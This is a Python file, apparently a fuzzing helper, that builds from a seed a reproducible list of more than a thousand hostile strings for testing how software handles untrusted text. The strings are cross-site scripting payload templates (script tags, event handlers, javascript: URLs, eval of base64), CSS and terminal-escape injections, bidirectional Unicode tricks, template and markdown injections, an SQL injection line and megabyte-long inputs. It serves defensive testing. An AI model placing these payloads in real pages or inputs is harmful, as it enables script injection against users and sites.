"More than a thousand strings that try to be more than text, made by rule from a seed: a failure can be made again."
import random

EXECUTE = ['hit()', 'alert(1)', 'confirm`1`', "top['al'+'ert'](1)", 'document.title="taken"',
           'parent.hit&&parent.hit()', 'setTimeout(hit)', 'eval(atob("aGl0KCk="))',
           'import("data:text/javascript,hit()")']

MARKUP = ['</script><script>{js}</script>', '<script>{js}</script>', '<ScRiPt>{js}</sCrIpT>', '<script/x>{js}</script>',
          '<script src=data:,{js}></script>', '</style><script>{js}</script>', '</title><script>{js}</script>',
          '</textarea><script>{js}</script>', '</i></span></div></table><script>{js}</script>',
          '--><script>{js}</script>', ']]><script>{js}</script>', '<!--<script>{js}</script>-->',
          '<svg><script>{js}</script></svg>', '<svg onload={js}>', '<svg/onload={js}>', '<img src=x onerror={js}>',
          '<img src=x onerror="{js}"', '<img/src=x/onerror={js}>', '<img src=`x`onerror={js}>', '<body onload={js}>',
          '<iframe src="javascript:{js}"></iframe>', '<iframe srcdoc="<script>parent.{js}</script>">',
          '<a href="javascript:{js}">x</a>', '<a href=java&#x09;script:{js}>x</a>',
          '<form action=javascript:{js}><button>x', '<button formaction=javascript:{js}>',
          '<input autofocus onfocus={js}>', '<details open ontoggle={js}>', '<video><source onerror={js}>',
          '<audio src=x onerror={js}>', '<object data="javascript:{js}">', '<embed src="javascript:{js}">',
          '<math><mtext></p><script>{js}</script>', '<noscript><p title="</noscript><script>{js}</script>">',
          '<template><script>{js}</script></template>', '<xmp></xmp><script>{js}</script>', '<marquee onstart={js}>',
          '<meta http-equiv=refresh content="0;javascript:{js}">', '<base href="javascript:{js}//">',
          '<link rel=stylesheet href="data:text/css,*{{display:none}}" onload={js}>',
          '<isindex type=image src=1 onerror={js}>', '<x onclick={js} tabindex=1>', '<style onload={js}></style>',
          '<style>@import "data:text/css,*{{color:red}}";</style>', '<style>*{{display:none!important}}</style>',
          '</style><style>body{{background:url(http://127.0.0.1:9/x)}}</style>', '<plaintext>', '<title>taken</title>',
          '<frameset onload={js}>']

ATTRIBUTE = ['" onmouseover="{js}', "' onmouseover='{js}", '` onmouseover=`{js}', '" onerror={js} x="',
             ' onclick={js} ', '"><img src=x onerror={js}>', "'><script>{js}</script>",
             '"style="animation:x 1s"onanimationstart="{js}', '" autofocus onfocus={js} tabindex=1 "',
             '&quot; onmouseover=&quot;{js}', '&#34;&gt;&lt;script&gt;{js}', '\\" onload=\\"{js}',
             '%22%20onload=%22{js}', '=" onload={js} ', '\t"\nonload\n=\n"{js}"', '/onload={js}/']

CSS = ['expression({js})', 'url(javascript:{js})', 'background:url("http://127.0.0.1:9/{js}")',
       '}} body{{display:none}} .x{{', '@import url(http://127.0.0.1:9);', '-moz-binding:url(data:text/xml,{js})',
       ';position:fixed;inset:0;', '/*', '*/', '\\3c script\\3e {js}']

TERMINAL = ['\x1b[31m{js}\x1b[0m', '\x1b]0;taken\x07', '\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07', '\x9b2J',
            '\x1b[2J\x1b[H', '\x08\x08\x08{js}', '\r{js}', '\x00{js}', '\x7f', '\x1bP{js}\x1b\\', '\x0c', '\x0b',
            '\x85']

OPENED = (('\u202e', '\u202c'), ('\u202d', '\u202c'), ('\u2066', '\u2069'), ('\u2067', '\u2069'), ('\u2068', ''),
          ('\u200f', '\u200e'), ('\u061c', ''), ('\u202b', ''), ('\u202a', ''))
BIDI = [*(c + '{js}' + d for c, d in OPENED), '\u05d0\u05d1\u05d2 {js}', '\u0645\u0631\u062d\u0628\u0627 <b>{js}</b>',
        'a\u200bb\u200c\u200d\ufeff{js}', '\u2028{js}\u2029', '\u00ad{js}', '\ufff9{js}\ufffb']

ODD = ['\ud800', '\udfff{js}', '\ufffe', '\uffff', '\U000e0001\U000e0041', '\ue000{js}', '\U0001f99c\u200d\U0001f9b4',
       'Z' + '\u0301'*200, '\u0300', '\u20dd', '\u115f\u3164', '&', '&amp;', '&lt;script&gt;{js}&lt;/script&gt;',
       '&#60;script&#62;', '&#x3c;script&#x3e;', '&lt', '&#0;', '&#xD800;', '&notit;', '<', '<<', '<>', '</', '</>',
       '<!', '<!--', '-->', '<![CDATA[', '<?php {js} ?>', '<%= {js} %>', '{{{{{js}}}}}', '${{{js}}}', '#{{{js}}}',
       '[[{js}]]', '$${js}$$', '\\({js}\\)', '$\\href{{javascript:{js}}}{{x}}$', '[x](javascript:{js})',
       '![x](x"onerror="{js})', '`{js}`', '```html\n<script>{js}</script>\n```', '\uff1cscript\uff1e{js}',
       '\u00bcscript\u00be{js}', '+ADw-script+AD4-{js}', '\\u003cscript\\u003e{js}', '\\x3cscript\\x3e{js}',
       '%3Cscript%3E{js}', '', ' ', '\n', '\t', '\n\n\n', "'; DROP TABLE x; --", 'null', '__proto__', 'NaN', '\\', '"',
       "'", '`', '‹U+202E›']

# each of a megabyte
HUGE = ['A', '<', '<b>', '&', '"', '\u202e', '\u0301', '\ud83e', '\n', '</script><script>{js}</script>', '\x1b[31m',
        '<div>']


def fill(form, js):
    "A form with its code put in."
    if '{' not in form: return form
    return form.replace('{{', '\0(').replace('}}', '\0)').replace('{js}', js).replace('\0(', '{').replace('\0)', '}')


def split_tags(text, rng):
    "The text with odd characters at its tags and attributes."
    less = rng.choice(('<', '<\x00', '< ', '<\n', '\x00<', '<\u200b'))
    return text.replace('<', less).replace('=', rng.choice(('=', ' =\t', '=\x0b')))


def mixed(text, base, rng):
    "The text changed in one of six ways."
    way = rng.randrange(6)
    if way == 0: return ''.join(rng.choice((c.upper(), c.lower())) for c in text)
    if way == 1: return split_tags(text, rng)
    if way == 2:
        i = rng.randrange(len(text) + 1)
        return text[:i] + rng.choice(TERMINAL + BIDI[-6:]) + text[i:]
    if way == 3: return rng.choice(ATTRIBUTE[:4]).replace('{js}', '') + text
    if way == 4: return text + rng.choice(base)
    return 'So 3 * 4 = ' + text + ' 12'


def nasty_strings(n=1200,  # at least this many, all different
                  seed=0): # of the mixtures
    "`n` or more hostile strings, the same for the same seed; the megabyte ones are among them."
    rng, base = random.Random(seed), []
    forms = MARKUP + ATTRIBUTE + CSS + TERMINAL + BIDI + ODD
    base += [fill(form, EXECUTE[0]) for form in forms]
    for js in EXECUTE[1:]: base += [fill(f, js) for f in MARKUP + ATTRIBUTE]
    out = list(dict.fromkeys(base))
    seen = set(out)
    while len(out) < n - len(HUGE):
        new = mixed(rng.choice(base), base, rng)
        if new not in seen: out.append(new)
        seen.add(new)
    return out + [fill(h, EXECUTE[0])*(1_000_000//len(h)) for h in HUGE]
